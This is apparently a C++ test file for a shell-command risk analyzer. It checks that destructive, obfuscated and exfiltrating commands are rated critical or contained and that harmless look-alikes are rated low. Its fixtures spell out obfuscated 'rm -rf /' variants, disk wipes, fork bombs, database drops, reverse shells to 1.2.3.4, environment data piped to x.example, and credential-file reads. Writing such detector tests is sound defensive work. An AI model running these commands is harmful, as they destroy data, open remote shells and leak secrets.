// analyze(): obfuscations must not hide destruction; harmless look-alikes stay low.
#include <criterion/criterion.h>

#include <algorithm>
#include <string>

#include "core/analyze.h"

namespace {

const vg::AnalyzeContext kCtx{"/home/u/proj", "/home/u", "/home/u/proj"};

std::string describe(const vg::Analysis& a) {
  std::string s = std::string(vg::to_string(a.risk)) + " [";
  for (const auto& f : a.findings) s += f.rule + " ";
  return s + "]";
}

void expect_exact(const char* line, vg::Severity want) {
  vg::Analysis a = vg::analyze(line, kCtx);
  cr_expect(a.risk == want, "%s: want %s, got %s", line, std::string(vg::to_string(want)).c_str(),
            describe(a).c_str());
}

[[maybe_unused]] void expect_at_least(const char* line, vg::Severity want) {
  vg::Analysis a = vg::analyze(line, kCtx);
  cr_expect(a.risk >= want, "%s: want at least %s, got %s", line, std::string(vg::to_string(want)).c_str(),
            describe(a).c_str());
}

void expect_between(const char* line, vg::Severity lo, vg::Severity hi) {
  vg::Analysis a = vg::analyze(line, kCtx);
  cr_expect(a.risk >= lo && a.risk <= hi, "%s: want %s..%s, got %s", line, std::string(vg::to_string(lo)).c_str(),
            std::string(vg::to_string(hi)).c_str(), describe(a).c_str());
}

bool has_trait(const vg::Analysis& a, const char* t) {
  return std::find(a.traits.begin(), a.traits.end(), t) != a.traits.end();
}

}  // namespace

using vg::Severity;

#define CRITICAL(name, line) \
  Test(critical, name) { expect_exact(line, Severity::Critical); }
#define LOW(name, line) \
  Test(low, name) { expect_exact(line, Severity::Low); }
#define CONTAINED(name, line) \
  Test(contained, name) { expect_between(line, Severity::Medium, Severity::High); }
#define AT_LEAST_MEDIUM(name, line) \
  Test(risky, name) { expect_at_least(line, Severity::Medium); }
#define AT_LEAST_HIGH(name, line) \
  Test(risky, name) { expect_at_least(line, Severity::High); }

// Obfuscated destruction: each trick on its own.
CRITICAL(plain_rm_root, "rm -rf /")
CRITICAL(quote_split_single, "r''m -rf /")
CRITICAL(quote_split_double, "\"r\"m -rf /")
CRITICAL(backslash_program, "\\rm -rf /")
CRITICAL(backslash_inside, "r\\m -rf /")
CRITICAL(ifs_separators, "rm${IFS}-rf${IFS}/")
CRITICAL(ifs_plain, "rm$IFS-rf$IFS/")
CRITICAL(ansi_c_hex_program, "$'\\x72\\x6d' -rf /")
CRITICAL(ansi_c_octal_program, "$'\\162\\155' -rf /")
CRITICAL(variable_indirection, "X=rm; $X -rf /")
CRITICAL(variable_braces, "X=rm; ${X} -rf /")
CRITICAL(variable_target, "T=/; rm -rf $T")
CRITICAL(eval_string, "eval \"rm -rf /\"")
CRITICAL(eval_words, "eval rm -rf /")
CRITICAL(base64_to_sh, "echo cm0gLXJmIC8= | base64 -d | sh")
CRITICAL(base64_long_option, "echo cm0gLXJmIC8= | base64 --decode | bash")
CRITICAL(printf_hex_to_sh, "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh")
CRITICAL(find_exec_rm, "find / -exec rm {} +")
CRITICAL(find_exec_rm_semicolon, "find / -type f -exec rm -f {} \\;")
CRITICAL(find_home_delete, "find ~ -delete")
CRITICAL(find_root_delete_typed, "find / -type f -delete")
CRITICAL(find_execdir_shell, "find /etc -execdir sh -c 'rm -rf {}' \\;")
CRITICAL(xargs_from_find_root, "find / -name '*.conf' | xargs rm -rf")
CRITICAL(xargs_literal_root, "echo / | xargs rm -rf")
CRITICAL(xargs_replace, "echo /etc | xargs -I{} rm -rf {}")
CRITICAL(long_options, "rm --recursive --force /")
CRITICAL(no_preserve_root, "rm -rf --no-preserve-root /")
CRITICAL(glob_root, "rm -rf /*")
CRITICAL(glob_home, "rm -rf ~/*")
CRITICAL(tilde_home, "rm -rf ~")
CRITICAL(tilde_slash, "rm -rf ~/")
CRITICAL(home_var, "rm -rf $HOME")
CRITICAL(home_var_quoted, "rm -rf \"$HOME\"/")
CRITICAL(home_braces, "rm -rf \"${HOME}\"")
CRITICAL(home_glob_var, "rm -rf $HOME/*")
CRITICAL(dotdot_to_root, "rm -rf ../..")
CRITICAL(dotdot_to_etc, "rm -rf ../../../etc")
CRITICAL(tmp_traversal, "rm -rf /tmp/../etc")
CRITICAL(dot_slash_traversal, "rm -rf ./../../../../root")
CRITICAL(absolute_rm_path, "/bin/rm -rf /")
CRITICAL(usr_bin_rm, "/usr/bin/rm -r /")
CRITICAL(sudo_rm, "sudo rm -rf /")
CRITICAL(sudo_user_rm, "sudo -u root -- rm -rf /usr")
CRITICAL(doas_rm, "doas rm -rf /etc")
CRITICAL(env_rm, "env -i FOO=1 rm -rf /")
CRITICAL(nice_rm, "nice -n 10 rm -rf /")
CRITICAL(ionice_rm, "ionice -c 3 rm -rf /")
CRITICAL(timeout_rm, "timeout -s KILL 10 rm -rf /")
CRITICAL(nohup_rm, "nohup rm -rf / &")
CRITICAL(command_rm, "command rm -rf /")
CRITICAL(builtin_exec_rm, "exec rm -rf /")
CRITICAL(time_rm, "time rm -rf /")
CRITICAL(stdbuf_rm, "stdbuf -oL rm -rf /")
CRITICAL(busybox_rm, "busybox rm -rf /")
CRITICAL(bash_c, "bash -c 'rm -rf /'")
CRITICAL(sh_c_double, "sh -c \"rm -rf /\"")
CRITICAL(nested_sh_c, "sh -c 'sh -c \"rm -rf /\"'")
CRITICAL(bash_lc, "bash -lc 'rm -rf ~'")
CRITICAL(su_c, "su -c 'rm -rf /' root")
CRITICAL(heredoc_to_bash, "bash <<EOF\nrm -rf /\nEOF")
CRITICAL(heredoc_body_substitution, "cat <<EOF\n$(rm -rf ~)\nEOF")
CRITICAL(heredoc_body_backticks, "cat > notes.txt <<EOF\nhello `rm -rf /`\nEOF")
LOW(heredoc_quoted_body_is_data, "cat <<'EOF'\n$(rm -rf /)\nEOF")
CRITICAL(herestring_to_sh, "sh <<< 'rm -rf /'")
CRITICAL(echo_to_sh, "echo 'rm -rf /' | sh")
CRITICAL(python_os_system, "python3 -c 'import os; os.system(\"rm -rf /\")'")
CRITICAL(python_subprocess_list, "python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'")
CRITICAL(python_rmtree, "python3 -c 'import shutil; shutil.rmtree(\"/\")'")
CRITICAL(node_child_process, "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'")
CRITICAL(node_rmsync, "node -e 'require(\"fs\").rmSync(\"/home/u\", {recursive: true})'")
CRITICAL(perl_system, "perl -e 'system(\"rm -rf /\")'")
CRITICAL(perl_backticks, "perl -e '`rm -rf /`'")
CRITICAL(perl_unlink, "perl -e 'unlink \"/etc/passwd\"'")
CRITICAL(ruby_rm_rf, "ruby -e 'FileUtils.rm_rf(\"/\")'")
CRITICAL(command_subst_program, "$(echo rm) -rf /")
CRITICAL(backtick_program, "`echo rm` -rf /")
CRITICAL(cd_root_then_glob, "cd / && rm -rf *")
CRITICAL(after_harmless, "ls; rm -rf /")
CRITICAL(in_or_list, "test -d x || rm -rf /")
CRITICAL(in_subshell, "(cd /tmp && rm -rf /)")
CRITICAL(in_group, "{ echo a; rm -rf /; }")
CRITICAL(in_if, "if true; then rm -rf /; fi")
CRITICAL(in_for, "for d in a b; do rm -rf /; done")
CRITICAL(in_function, "cleanup() { rm -rf /; }; cleanup")
CRITICAL(in_command_subst, "echo $(rm -rf /)")
CRITICAL(in_process_subst, "cat <(rm -rf ~)")
CRITICAL(ssh_remote, "ssh host 'rm -rf /'")
CRITICAL(watch_rm, "watch rm -rf /")
CRITICAL(fork_bomb_classic, ":(){ :|:& };:")
CRITICAL(fork_bomb_renamed, "f(){ f|f& };f")
CRITICAL(fork_bomb_spaced, "bomb() { bomb | bomb & }; bomb")
CRITICAL(home_documents_file, "rm ~/Documents/report.txt")
CRITICAL(quoted_tilde, "rm -rf \"~/Library/Mobile Documents\"")
CRITICAL(shred_home, "shred -u ~/Desktop/a.doc")
CRITICAL(truncate_home, "truncate -s 0 ~/Documents/log.txt")
CRITICAL(mv_to_devnull, "mv data.db /dev/null")
CRITICAL(chmod_system_recursive, "chmod -R 777 /etc")
CRITICAL(chown_root_recursive, "chown -R nobody /")
CRITICAL(overwrite_passwd, "> /etc/passwd")
CRITICAL(echo_to_shadow, "echo x > /etc/shadow")
CRITICAL(tee_to_sudoers, "echo 'u ALL=(ALL) ALL' | sudo tee /etc/sudoers")
CRITICAL(dd_to_disk, "dd if=/dev/zero of=/dev/sda bs=1M")
CRITICAL(cat_to_disk, "cat /dev/urandom > /dev/nvme0n1")
CRITICAL(mkfs, "mkfs.ext4 /dev/sdb1")
CRITICAL(mkfs_type, "mkfs -t xfs /dev/sdc")
CRITICAL(wipefs, "wipefs -a /dev/sda")
CRITICAL(sgdisk_zap, "sgdisk --zap-all /dev/sda")
CRITICAL(luks_format, "cryptsetup luksFormat /dev/sda2")
CRITICAL(shutdown_now, "shutdown -h now")
CRITICAL(reboot, "sudo reboot")
CRITICAL(systemctl_poweroff, "systemctl poweroff")
CRITICAL(init_zero, "init 0")
CRITICAL(kill_all, "kill -9 -1")
CRITICAL(kill_init, "kill -9 1")
CRITICAL(drop_database, "psql -c 'DROP DATABASE prod'")
CRITICAL(mysql_truncate, "mysql -e 'truncate table orders'")
CRITICAL(delete_without_where, "sqlite3 app.db 'DELETE FROM users'")
CRITICAL(redis_flushall, "redis-cli flushall")
CRITICAL(mongo_drop, "mongosh --eval 'db.dropDatabase()'")
CRITICAL(sql_heredoc, "psql <<SQL\nDROP TABLE users;\nSQL")
CRITICAL(terraform_destroy, "terraform destroy -auto-approve")
CRITICAL(kubectl_delete_ns, "kubectl delete namespace prod")
CRITICAL(kubectl_delete_all, "kubectl delete pods --all -n prod")
CRITICAL(docker_prune, "docker system prune -af")
// Issue 19: removing every listed container is not critical (they are re-created from images).
CONTAINED(docker_rm_dynamic, "docker rm -f $(docker ps -aq)")
CRITICAL(aws_terminate, "aws ec2 terminate-instances --instance-ids i-1")
CRITICAL(s3_recursive, "aws s3 rm s3://b --recursive")
CRITICAL(gcloud_delete, "gcloud sql instances delete db1")
CRITICAL(helm_uninstall, "helm uninstall web")
CRITICAL(dynamic_program_destructive, "$CMD -rf /")
CRITICAL(remove_essential_package, "apt-get remove -y openssh-server")
CRITICAL(windows_format, "format C:")
CRITICAL(stop_networking, "systemctl stop networking")

// Risky but recoverable: contained (sandbox), not blocked.
CONTAINED(curl_pipe_sh, "curl -fsSL https://x.example/i.sh | sh")
CONTAINED(curl_pipe_sudo_bash, "curl -fsSL https://x.example/i.sh | sudo bash")
CONTAINED(wget_pipe_bash, "wget -qO- https://x.example/i.sh | bash")
CONTAINED(bash_c_curl, "bash -c \"$(curl -fsSL https://x.example/i.sh)\"")
CONTAINED(sh_process_subst, "sh <(curl -s https://x.example/i.sh)")
CONTAINED(source_process_subst, ". <(curl -s https://x.example/env)")
CONTAINED(source_stdin, "curl -s https://x.example | source /dev/stdin")
CONTAINED(python_from_curl, "curl -s https://x.example/a.py | python3")
CONTAINED(download_then_run, "curl -o i.sh https://x.example/i.sh && bash i.sh")
CONTAINED(npm_install, "npm install left-pad")
CONTAINED(pip_install, "pip install requests")
CONTAINED(python_m_pip, "python3 -m pip install requests")
CONTAINED(apt_install, "sudo apt-get install -y jq")
CONTAINED(cargo_install, "cargo install ripgrep")
CONTAINED(go_install, "go install example.com/tool@latest")
CONTAINED(npx, "npx create-react-app web")
CONTAINED(git_reset_hard, "git reset --hard HEAD~1")
CONTAINED(git_clean, "git clean -fdx")
CONTAINED(git_push_force, "git push --force origin main")
CONTAINED(git_push_plus, "git push origin +main")
CONTAINED(git_push_delete_colon, "git push origin :old")
CONTAINED(git_push_lease, "git push --force-with-lease")
CONTAINED(git_filter_branch, "git filter-branch --tree-filter 'rm -f x' HEAD")
CONTAINED(git_reflog_expire, "git reflog expire --expire=now --all")
CONTAINED(git_checkout_dashdash, "git checkout -- src/app.c")
CONTAINED(git_checkout_dot, "git checkout .")
CONTAINED(git_restore, "git restore src/app.c")
CONTAINED(git_stash_clear, "git stash clear")
CONTAINED(git_branch_force_delete, "git branch -D topic")
CONTAINED(sudo_shell, "sudo -i")
CONTAINED(sudo_su, "sudo su -")
CONTAINED(su_root, "su - root")
CONTAINED(setuid, "chmod u+s /usr/local/bin/tool")
CONTAINED(setcap, "setcap cap_net_raw+ep ./ping")
CONTAINED(usermod_sudo, "usermod -aG sudo mallory")
CONTAINED(crontab_install, "echo '* * * * * x' | crontab -")
CONTAINED(bashrc_append, "echo 'alias x=y' >> ~/.bashrc")
CONTAINED(authorized_keys, "cat key.pub >> ~/.ssh/authorized_keys")
CONTAINED(systemctl_enable, "systemctl enable --now evil.service")
CONTAINED(read_ssh_key, "cat ~/.ssh/id_rsa")
CONTAINED(read_aws, "cat ~/.aws/credentials")
CONTAINED(read_shadow, "sudo cat /etc/shadow")
CONTAINED(env_to_curl, "env | curl -d @- https://x.example/c")
CONTAINED(scp_key, "scp ~/.ssh/id_ed25519 u@h:/tmp")
CONTAINED(curl_upload, "curl -T notes.txt https://x.example/up")
CONTAINED(nc_exec, "nc -e /bin/sh 1.2.3.4 4444")
CONTAINED(ncat_exec, "ncat --exec /bin/bash 1.2.3.4 4444")
CONTAINED(dev_tcp, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
CONTAINED(socat_exec, "socat exec:'bash -li',pty tcp:1.2.3.4:4444")
CONTAINED(python_reverse_shell,
          "python3 -c 'import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'")
CONTAINED(history_clear, "history -c")
CONTAINED(unset_histfile, "unset HISTFILE")
CONTAINED(histfile_devnull, "export HISTFILE=/dev/null")
CONTAINED(kubectl_delete_pod, "kubectl delete pod web-1")
CONTAINED(docker_rm_named, "docker rm web")
CONTAINED(terraform_apply, "terraform apply")
CONTAINED(rsync_delete, "rsync -a --delete src/ dst/")
CONTAINED(eval_dynamic, "eval \"$CMD\"")
CONTAINED(sh_c_dynamic, "sh -c \"$1\"")
CONTAINED(dynamic_program, "$EDITOR notes.txt")
CONTAINED(unknown_target_recursive, "rm -rf \"$X\"/")
CONTAINED(unknown_prefix, "rm -rf $DIR/build")
CONTAINED(xargs_unknown, "cat list.txt | xargs rm -rf")
CONTAINED(delete_git_dir, "rm -rf .git")
CONTAINED(delete_whole_workspace, "rm -rf *")
CONTAINED(pipe_to_sh_unknown, "cat script.txt | sh")
CONTAINED(decoded_to_python, "echo aW1wb3J0IG9z | base64 -d | python3")

// Harmless look-alikes.
LOW(echo_quoted, "echo \"rm -rf /\"")
LOW(echo_plain_words, "echo rm -rf /")
LOW(printf_text, "printf 'rm -rf /\\n'")
LOW(commit_message, "git commit -m \"rm -rf /\"")
LOW(grep_drop_table, "grep -r \"DROP TABLE\" .")
LOW(man_rm, "man rm")
LOW(rm_help, "rm --help")
LOW(which_rm, "which rm")
LOW(type_rm, "type rm")
LOW(command_v, "command -v rm")
LOW(rm_build_dirs, "rm -rf build node_modules dist")
LOW(rm_target, "rm -rf ./target")
LOW(rm_tmp, "rm -rf /tmp/foo")
LOW(rm_var_tmp, "rm -rf /var/tmp/cache")
LOW(rm_tmpdir, "rm -rf \"$TMPDIR/x\"")
LOW(rm_file_in_project, "rm src/old.c")
LOW(rm_nested_project, "rm -rf src/gen/")
LOW(cd_build_rm, "cd build && rm -rf *")
LOW(find_pyc_delete, "find . -name '*.pyc' -delete")
LOW(find_tmp_delete, "find /tmp -mtime +7 -delete")
LOW(find_print_root, "find / -name x.txt -type f -print")
LOW(find_exec_grep, "find . -name '*.c' -exec grep -l main {} +")
LOW(xargs_from_find_project, "find . -name '*.o' | xargs rm -f")
LOW(git_status, "git status")
LOW(git_log, "git log --oneline")
LOW(git_checkout_branch, "git checkout main")
LOW(git_checkout_new_branch, "git checkout -b feature/x")
LOW(git_branch_d, "git branch -d merged")
LOW(git_restore_staged, "git restore --staged app.c")
LOW(git_clean_dry, "git clean -n")
LOW(git_push_plain, "git push origin main")
LOW(kubectl_get, "kubectl get pods -A")
LOW(kubectl_describe, "kubectl describe deployment web")
LOW(aws_describe, "aws ec2 describe-instances")
LOW(gcloud_list, "gcloud compute instances list")
LOW(terraform_plan, "terraform plan")
LOW(docker_ps, "docker ps -a")
LOW(helm_list, "helm list")
LOW(dd_no_device, "dd if=/dev/zero of=disk.img bs=1M count=10")
LOW(dd_no_output, "dd if=/dev/zero bs=1M count=10")
LOW(fdisk_list, "fdisk -l")
LOW(chmod_project, "chmod -R 755 ./app")
LOW(chmod_file, "chmod 600 secret.txt")
LOW(chown_file, "chown u:u file.txt")
LOW(truncate_project_log, "truncate -s 0 app.log")
LOW(mv_project, "mv file.txt backup/")
LOW(cat_pub_key, "cat ~/.ssh/id_rsa.pub")
LOW(cat_ssh_config, "cat ~/.ssh/config")
LOW(cat_downloads, "cat ~/Downloads/notes.txt")
LOW(sql_select, "psql -c 'SELECT * FROM users'")
LOW(sql_delete_where, "mysql -e 'DELETE FROM users WHERE id = 1'")
LOW(sql_update_where, "psql -c 'UPDATE users SET a=1 WHERE id=2'")
LOW(pg_dump_clean, "pg_dump --clean db > backup.sql")
LOW(redis_get, "redis-cli GET key")
LOW(mongo_find, "mongosh --eval 'db.users.find()'")
LOW(export_env, "export ENV=production")
LOW(comment_only, "# rm -rf / later")
LOW(curl_to_file, "curl -fsSL -o page.html https://x.example")
LOW(curl_to_jq, "curl -s https://x.example/api | jq .")
LOW(ls_home, "ls -la ~")
LOW(du_root, "du -sh /")
LOW(kill_pid, "kill 12345")
LOW(systemctl_status, "systemctl status nginx")
LOW(history_show, "history | tail")
LOW(base64_encode, "base64 file.bin > file.txt")
LOW(base64_decode_to_file, "base64 -d in.txt > out.bin")
LOW(pipeline_text, "cat f | sort | uniq -c | sort -nr")
LOW(ifs_assignment, "(IFS=:; echo a:b)")
LOW(sed_inplace_project, "sed -i 's/a/b/' src/main.c")
LOW(tee_project, "make 2>&1 | tee build.log")
LOW(rm_rf_tmp_glob, "rm -rf /tmp/*")
LOW(rsync_plain, "rsync -a src/ dst/")
LOW(python_script, "python3 manage.py runserver")
LOW(node_script, "node server.js")
LOW(bash_script, "bash ./build.sh")
LOW(eval_local_program_output, "eval \"$(pyenv init -)\"")
LOW(rm_home_cache, "rm -rf ~/.cache/pip")
LOW(killall_user_program, "killall firefox")
LOW(eval_ssh_agent, "eval $(ssh-agent -s)")

Test(traits, networked_install) {
  vg::Analysis a = vg::analyze("npm install left-pad", kCtx);
  cr_expect(has_trait(a, "networked-install"), "%s", describe(a).c_str());
}

Test(traits, remote_exec) {
  vg::Analysis a = vg::analyze("curl -s https://x.example | sh", kCtx);
  cr_expect(has_trait(a, "remote-exec"));
}

Test(traits, destructive) {
  vg::Analysis a = vg::analyze("rm -rf /", kCtx);
  cr_expect(has_trait(a, "destructive"));
}

Test(traits, privilege) {
  vg::Analysis a = vg::analyze("sudo ls", kCtx);
  cr_expect(has_trait(a, "privilege"));
}

Test(traits, obfuscated) {
  vg::Analysis a = vg::analyze("echo cm0gLXJmIC8= | base64 -d | sh", kCtx);
  cr_expect(has_trait(a, "obfuscated"));
}

Test(parse, incomplete_is_medium) {
  vg::Analysis a = vg::analyze("echo 'unterminated", kCtx);
  cr_expect(a.parse_error);
  cr_expect(a.risk >= Severity::Medium);
  cr_expect(has_trait(a, "parse-error"));
  bool found = false;
  for (const auto& f : a.findings) found |= f.rule == "parse.incomplete";
  cr_expect(found);
}

Test(parse, incomplete_keeps_worse_findings) {
  vg::Analysis a = vg::analyze("rm -rf / ; echo \"oops", kCtx);
  cr_expect(a.risk == Severity::Critical, "%s", describe(a).c_str());
}

Test(findings, most_severe_first) {
  vg::Analysis a = vg::analyze("npm install x; rm -rf /", kCtx);
  cr_assert(a.findings.size() >= 2);
  cr_expect(a.findings[0].severity == Severity::Critical);
  cr_expect(!a.findings[0].reason.empty());
  cr_expect(!a.findings[0].pack.empty());
}

Test(findings, carry_normalized_command) {
  vg::Analysis a = vg::analyze("sudo rm -rf /", kCtx);
  cr_assert(!a.findings.empty());
  cr_expect_str_eq(a.findings[0].command.c_str(), "rm -r -f /");
}

Test(script, statements_and_lines) {
  const char* src = "#!/bin/sh\necho start\nif true; then\n  rm -rf /\nfi\nnpm install x\n";
  auto st = vg::analyze_script(src, kCtx);
  cr_assert_eq(st.size(), 3);
  cr_expect_eq(st[0].line, 2);
  cr_expect(st[0].analysis.risk == Severity::Low);
  cr_expect_eq(st[1].line, 3);
  cr_expect(st[1].analysis.risk == Severity::Critical);
  cr_expect(st[1].text.find("rm -rf /") != std::string::npos);
  cr_expect_eq(st[2].line, 6);
  cr_expect(st[2].analysis.risk == Severity::Medium);
}

Test(script, variables_carry_between_statements) {
  auto st = vg::analyze_script("T=/\nrm -rf \"$T\"\n", kCtx);
  cr_assert_eq(st.size(), 2);
  cr_expect(st[1].analysis.risk == Severity::Critical);
}

Test(script, findings_carry_line) {
  auto st = vg::analyze_script("echo a\n\ngit reset --hard\n", kCtx);
  cr_assert_eq(st.size(), 2);
  cr_assert(!st[1].analysis.findings.empty());
  cr_expect_eq(st[1].analysis.findings[0].line, 3);
}

Test(script, parse_error_reported) {
  std::string err;
  auto st = vg::analyze_script("echo ok\necho 'broken\n", kCtx, &err);
  cr_expect(!err.empty());
  bool medium = false;
  for (const auto& s : st) medium |= s.analysis.risk >= Severity::Medium;
  cr_expect(medium);
}
